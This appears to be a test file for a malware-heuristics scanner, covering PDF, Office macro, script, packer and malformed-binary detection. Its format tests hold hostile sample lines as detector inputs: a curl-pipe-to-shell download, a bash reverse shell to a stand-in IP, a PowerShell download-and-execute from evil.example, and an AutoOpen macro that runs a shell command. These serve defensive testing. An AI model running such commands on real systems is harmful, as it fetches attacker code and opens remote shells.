import tap from 'tap'
import CFB from 'cfb'
import { readFileSync, existsSync } from 'node:fs'
import { createHeuristicsEngine } from '../../src/scan/heuristics-engine.ts'
import { analyze, verdictOf } from '../../src/scan/heuristics/analyze.ts'
import { decompressVba } from '../../src/scan/heuristics/office.ts'
import { extractIndicators } from '../../src/scan/heuristics/indicators.ts'
import { TEST_HOOKS } from '../../src/scan/worker-protocol.ts'
import { engineCompliance } from './engine-compliance.ts'
import { CLAMAV_TESTFILES, input, noClamavTestfiles, silentLogger } from './yara-helpers.ts'

const PDF_AUTO_JS = '%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (app.alert\\("x"\\)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'
const ids = (bytes: Uint8Array | string): string[] => analyze(typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes).findings.map(f => f.id)

/** an uncompressed MS-OVBA container: flag byte 1, then 4096-byte raw chunks (header 0x3FFF) */
function ovbaRaw (text: string): Buffer {
  const parts = [Buffer.from([1])]
  const body = Buffer.from(text, 'latin1')
  for (let i = 0; i < body.length; i += 4096) {
    const chunk = Buffer.alloc(4096, 0x20)
    body.copy(chunk, 0, i, Math.min(i + 4096, body.length))
    parts.push(Buffer.from([0xff, 0x3f]), chunk)
  }
  return Buffer.concat(parts)
}

/** a Word 97 document holding one VBA module with `source` */
function record (id: number, data: Buffer): Buffer {
  const head = Buffer.alloc(6)
  head.writeUInt16LE(id, 0)
  head.writeUInt32LE(data.length, 2)
  return Buffer.concat([head, data])
}

function macroDoc (source: string): Buffer {
  const offset = Buffer.alloc(4)
  const dir = Buffer.concat([record(0x0019, Buffer.from('Module1')), record(0x001a, Buffer.from('Module1')), record(0x0031, offset), record(0x002b, Buffer.alloc(0))])
  const doc = CFB.utils.cfb_new()
  CFB.utils.cfb_add(doc, '/WordDocument', Buffer.alloc(512))
  CFB.utils.cfb_add(doc, '/Macros/VBA/dir', ovbaRaw(dir.toString('latin1')))
  CFB.utils.cfb_add(doc, '/Macros/VBA/Module1', ovbaRaw(source))
  CFB.utils.cfb_add(doc, '/Macros/VBA/_VBA_PROJECT', Buffer.alloc(7))
  return Buffer.from(CFB.write(doc, { type: 'buffer' }) as Uint8Array)
}

tap.test('heuristics passes the engine compliance test', async t => {
  engineCompliance(t, {
    create: () => createHeuristicsEngine({ timeoutMs: 30_000, logger: silentLogger }),
    detected: input(PDF_AUTO_JS),
    clean: input('just some text\n'),
    misbehaving: {
      create: () => createHeuristicsEngine({ timeoutMs: 1500, logger: silentLogger, testHooks: true }),
      slow: input(TEST_HOOKS.hang),
      crash: input(TEST_HOOKS.crash)
    }
  })
})

tap.test('a worker that throws or runs out of heap is a failure; the engine lives on', async t => {
  const engine = createHeuristicsEngine({ timeoutMs: 60_000, logger: silentLogger, testHooks: true })
  await engine.start()
  t.teardown(async () => { await engine.stop() })
  t.equal((await engine.scan(input(TEST_HOOKS.throw))).category, 'failure', 'uncaught exception in the worker')
  t.equal((await engine.scan(input(TEST_HOOKS.oom))).category, 'failure', 'worker heap exhausted')
  t.equal((await engine.scan(input(PDF_AUTO_JS))).result, 'Heuristic.PDF.AutoJavaScript')
})

tap.test('findings per format', async t => {
  t.same(verdictOf(analyze(Buffer.from(PDF_AUTO_JS)).findings), { category: 'suspicious', result: 'Heuristic.PDF.AutoJavaScript' })
  t.ok(ids('%PDF-1.4\n<< /S /J#61vaScript /JS (x) /OpenAction 1 0 R >>').includes('PDF.ObfuscatedNames'), 'hex-escaped PDF names')
  t.ok(ids('%PDF-1.4\n<< /Type /Action /S /Launch /F (cmd.exe) >>').includes('PDF.Launch'))
  t.same(ids('%PDF-1.4\n<< /Type /Page >>\n%%EOF'), [], 'a plain PDF has no findings')

  t.ok(ids('#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n').includes('Script.Shell.DownloadPipeShell'))
  t.ok(ids('bash -i >& /dev/tcp/198.51.100.2/4444 0>&1\n').includes('Script.Shell.ReverseShell'))
  t.ok(ids("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n").includes('Script.PowerShell.DownloadExecute'))
  t.ok(ids(`powershell.exe -NoP -enc ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'}\n`).includes('Script.PowerShell.EncodedCommand'))
  t.ok(ids('eval(atob("YWxlcnQoMSk="))').includes('Script.JS.EvalDecode'))
  t.same(ids('#!/bin/sh\necho hello; curl -fsSL https://example.org/install.sh -o install.sh\n'), [], 'a download without a pipe to a shell is fine')

  const evil = macroDoc('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n')
  t.equal(analyze(evil).fileType, 'OLE2')
  t.same(verdictOf(analyze(evil).findings), { category: 'suspicious', result: 'Heuristic.Office.Macro.AutoExecDangerous' }, 'AutoOpen + Shell')
  const mild = macroDoc('Attribute VB_Name = "Module1"\r\nSub Format()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n')
  t.same(ids(mild), ['Office.Macro'], 'a macro that does nothing dangerous is only noted')
})

const vector = (hex: string): string => Buffer.from(decompressVba(Buffer.from(hex.replaceAll(' ', ''), 'hex'))).toString('latin1')
const label = (name: string): string => verdictOf(analyze(readFileSync(`${CLAMAV_TESTFILES}/${name}`)).findings).result

tap.test('MS-OVBA decompression matches the specification examples and refuses garbage', async t => {
  t.equal(vector('01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E'), 'abcdefghijklmnopqrstuv.')
  t.equal(vector('01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C'), '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa')
  t.throws(() => decompressVba(Buffer.from([2, 0, 0])), 'wrong signature byte')
  t.throws(() => decompressVba(Buffer.from([1, 0x05, 0xb0, 0x01, 0xff, 0xff])), 'copy token before the chunk start')
  // a chunk that copies 4 KiB per token, repeated: capped, not unbounded
  const bomb = Buffer.concat([Buffer.from([1]), ...Array.from({ length: 5000 }, () => Buffer.from([0xff, 0x3f, ...Buffer.alloc(4096)]))])
  t.throws(() => decompressVba(bomb, 1 << 20), /limit/)
})

tap.test('indicators: URLs and domains, ASCII and UTF-16, bounded', async t => {
  const wide = Buffer.from('connect to https://c2.evil.example:8443/gate.php now', 'utf16le')
  const found = extractIndicators(Buffer.concat([Buffer.from('x http://203.0.113.5/a.exe, see https://Docs.Example.ORG/path?q=1). ftp://files.example.net/\0'), wide]), { wide: true })
  t.same(found.urls.toSorted(), ['ftp://files.example.net/', 'http://203.0.113.5/a.exe', 'https://Docs.Example.ORG/path?q=1', 'https://c2.evil.example:8443/gate.php'].toSorted())
  t.same(found.domains.toSorted(), ['c2.evil.example', 'docs.example.org', 'files.example.net'])
  const many = Buffer.from(Array.from({ length: 5000 }, (_, i) => `http://h${i}.example.com/`).join(' '))
  t.equal(extractIndicators(many).urls.length, 200, 'at most 200 URLs')
  t.same(extractIndicators(Buffer.from('http://localhost/ http://a..b/ http:///x')).urls, [], 'no TLD, no URL')
})

tap.test('hostile and malformed binaries never throw', async t => {
  const mz = Buffer.alloc(4096)
  mz.write('MZ', 0)
  mz.writeUInt32LE(0x80, 0x3c)
  mz.write('PE\0\0', 0x80)
  mz.writeUInt16LE(0xffff, 0x86) // 65535 sections
  mz.writeUInt16LE(0x10b, 0x98)
  const elf = Buffer.alloc(64)
  elf.write('\x7fELF', 0, 'latin1')
  elf[4] = 2
  elf[5] = 1
  elf.writeUInt32LE(0xffffff00, 32) // program headers far past the end
  elf.writeUInt16LE(56, 54)
  elf.writeUInt16LE(0xffff, 56)
  const macho = Buffer.alloc(64)
  macho.writeUInt32BE(0xcffaedfe, 0)
  macho.writeUInt32LE(0xffffffff, 16) // 4 billion load commands
  const samples = [mz, elf, macho, Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + 'A'.repeat(600), 'latin1'), Buffer.from('%PDF-' + '/'.repeat(1 << 20)), Buffer.alloc(0), Buffer.from('MZ')]
  for (const s of samples) {
    const a = analyze(s)
    t.ok(Array.isArray(a.findings), `${a.fileType}: ${a.findings.map(f => f.id).join(',') || 'no findings'}`)
  }
  // random bytes behind every magic the analysers dispatch on
  for (const magic of ['MZ', '\x7fELF', '\xcf\xfa\xed\xfe', '\xca\xfe\xba\xbe', '%PDF-', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1']) {
    for (let i = 0; i < 20; i++) {
      const junk = Buffer.concat([Buffer.from(magic, 'latin1'), Buffer.from(Array.from({ length: 2048 }, () => Math.floor(Math.random() * 256)))])
      analyze(junk)
    }
  }
  t.pass('fuzzed headers analysed without throwing')
})

tap.test('ClamAV test files: packers are named, the benign /usr/bin/ls is not flagged', { skip: noClamavTestfiles }, async t => {
  t.equal(label('clam-upx.exe'), 'Heuristic.PE.Packer.UPX')
  t.equal(label('clam-aspack.exe'), 'Heuristic.PE.Packer.ASPack')
  t.equal(label('clam-petite.exe'), 'Heuristic.PE.Packer.Petite')
  t.equal(label('clam-wwpack.exe'), 'Heuristic.PE.Packer.WWPack')
  t.ok(existsSync('/bin/ls'))
  t.same(verdictOf(analyze(readFileSync('/bin/ls')).findings), { category: 'undetected', result: '' })
})
